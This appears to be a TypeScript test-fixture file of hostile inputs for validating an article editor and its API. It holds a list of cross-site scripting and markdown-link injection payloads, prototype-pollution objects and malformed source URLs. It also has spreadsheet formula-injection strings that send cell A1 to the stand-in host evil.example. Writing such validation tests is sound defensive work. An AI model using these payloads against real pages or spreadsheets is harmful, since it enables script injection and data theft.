/** Texts that would call `attack()` if a page did not treat them as text. */
export const ATTACKS: readonly string[] = [
  "<script>attack()</script>",
  "</script><script>attack()</script>",
  "<ScRiPt\n>attack()</sCrIpT\n>",
  "<scr<script>ipt>attack()</script>",
  "</title><img src=x onerror=attack()>",
  "<img src=x onerror=attack()>",
  '"><img src=x onerror="attack()">',
  "' onmouseover='attack()' autofocus onfocus='attack()",
  "--><svg onload=attack()>",
  "]]><svg/onload=attack()>",
  "<svg><script>attack()</script></svg>",
  "<svg><a xlink:href=javascript:attack()><text>x</text></a></svg>",
  "<math><mtext></mtext><script>attack()</script></math>",
  "<iframe srcdoc='<script>parent.attack()</script>'></iframe>",
  "<iframe src=javascript:parent.attack()></iframe>",
  "<object data='data:text/html,<script>attack()</script>'></object>",
  "<details open ontoggle=attack()>x</details>",
  "<style>@import 'javascript:attack()'</style>",
  "<base href=javascript:attack()//>",
  "<form action=javascript:attack()><button>x</button></form>",
  "<template><script>attack()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=attack()>'>",
  "&lt;script&gt;attack()&lt;/script&gt;",
  "\\u003cscript\\u003eattack()\\u003c/script\\u003e",
  "\u2028attack()\u2029//",
  "＜script＞attack()＜/script＞",
  "\u202e>tpircs/<)(kcatta>tpircs<\u202c",
  "<\u200bscript>attack()</\u200bscript>",
  ["$", "{attack()}"].join(""),
  "{{constructor.constructor('attack()')()}}",
  "`;attack();`",
  "';attack();//",
  '";attack();//',
  "[x](javascript:attack())",
  "[x](JaVaScRiPt:attack())",
  "[x](  javascript:attack())",
  "[x](java\tscript:attack())",
  "[x](&#106;avascript:attack())",
  "[x](%6aavascript:attack())",
  "[x](data:text/html,<script>attack()</script>)",
  "[x](vbscript:attack())",
  "[x](//evil.example/attack())",
  "[x](/\\evil.example/attack())",
  '[x](/courses"onclick="attack())',
  "[x](<javascript:attack()>)",
  "[x]: javascript:attack()",
  "![x](javascript:attack())",
  "[![x](x)](javascript:attack())",
  "**[x](javascript:attack())**",
  "[^S1](javascript:attack())",
  "<javascript:attack()>",
  "<https://evil.example/attack()>",
  '{"__proto__": {"attacked": true}}',
  '"}</script><script>attack()</script>',
]

/** Blocks of an article that neither the editor nor the API may store. */
export const HOSTILE_BLOCKS: readonly [string, unknown][] = [
  ["HTML", { kind: "html", html: "<script>attack()</script>" }],
  ["extra properties", { kind: "opening", text: "x", dangerouslySetInnerHTML: { __html: "<script>" } }],
  ["a prototype", JSON.parse('{"kind": "opening", "text": "x", "__proto__": {"attacked": true}}')],
  ["a constructor", { kind: "opening", text: "x", constructor: { prototype: { attacked: true } } }],
  ["an object in place of text", { kind: "opening", text: { toString: "attack" } }],
  ["a link to a script", { kind: "links", items: [{ label: "x", href: "javascript:attack()" }] }],
  ["a link to another site", { kind: "links", items: [{ label: "x", href: "//evil.example" }] }],
  ["deep nesting", nested(1000)],
  ["a list in place of text", { kind: "opening", text: ["x"] }],
  ["a list in a list", { kind: "list", isNumbered: false, items: [["x"]] }],
  ["a very long text", { kind: "opening", text: "x".repeat(1201) }],
  ["a very long heading", { kind: "heading", id: "x", text: "x".repeat(121) }],
  ["a text of spaces", { kind: "text", paragraphs: ["x", "\n\u00a0\t"] }],
  ["a quote of one letter", { kind: "quote", lines: ["x"] }],
  ["a quote that is too long", { kind: "quote", lines: ["x".repeat(23)] }],
  ["a quote of four lines", { kind: "quote", lines: ["one", "two", "three", "four"] }],
  ["a single step", { kind: "steps", items: [{ title: "x", text: "x" }] }],
  ["a very long label", { kind: "links", items: [{ label: "x".repeat(121), href: "/courses" }] }],
]

/** A source of an article as pages accept it. */
export const SOURCE = {
  id: "S1",
  title: "Naloxone",
  publisher: "A library",
  url: "https://library.example/naloxone?page=1#top",
  accessed: "2026-11-17",
}

const { id: _id, ...withoutId } = SOURCE
const { publisher: _publisher, ...withoutPublisher } = SOURCE

/** Sources that neither the editor nor the API may store. */
export const HOSTILE_SOURCES: readonly [string, unknown][] = [
  ["no object", "S1"],
  ["a list in place of an object", [SOURCE]],
  ["no id", withoutId],
  ["an id that no text can cite", { ...SOURCE, id: "first" }],
  ["a number as its id", { ...SOURCE, id: 1 }],
  ["no publisher", withoutPublisher],
  ["a title of spaces", { ...SOURCE, title: "\n\u00a0" }],
  ["a number as its title", { ...SOURCE, title: 12 }],
  ["a list in place of a title", { ...SOURCE, title: ["Naloxone"] }],
  ["a title that is too long", { ...SOURCE, title: "x".repeat(161) }],
  ["an extra property", { ...SOURCE, html: "<script>" }],
  ["a script as its address", { ...SOURCE, url: "javascript:attack()" }],
  ["an address without encryption", { ...SOURCE, url: "http://library.example/" }],
  ["an address without a host", { ...SOURCE, url: "https://" }],
  ["an address with a broken host", { ...SOURCE, url: "https://[library.example/" }],
  ["an address with a broken number", { ...SOURCE, url: "https://1.2.3.999/" }],
  ["an address with broken Punycode", { ...SOURCE, url: "https://xn--a.example/" }],
  ["an address with a port that is too large", { ...SOURCE, url: "https://library.example:99999/" }],
  ["an address with a space", { ...SOURCE, url: "https://library.example/a b" }],
  ["an address on two lines", { ...SOURCE, url: "https://library.example/a\nb" }],
  ["an address with a password", { ...SOURCE, url: "https://user:secret@library.example/" }],
  ["a day that does not exist", { ...SOURCE, accessed: "2026-02-30" }],
  ["a month that does not exist", { ...SOURCE, accessed: "2026-13-01" }],
  ["a date in words", { ...SOURCE, accessed: "yesterday" }],
  ["a number as its date", { ...SOURCE, accessed: 20261117 }],
]

function nested(depth: number) {
  let list: unknown = "x"
  for (let i = 0; i < depth; i++) list = [list]
  return { kind: "list", isNumbered: false, items: list }
}

/** What spreadsheets would run at the start of a cell. */
export const FORMULAS: readonly string[] = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"].map(
  start => `${start}HYPERLINK("https://evil.example/?"&A1, "x")`,
)
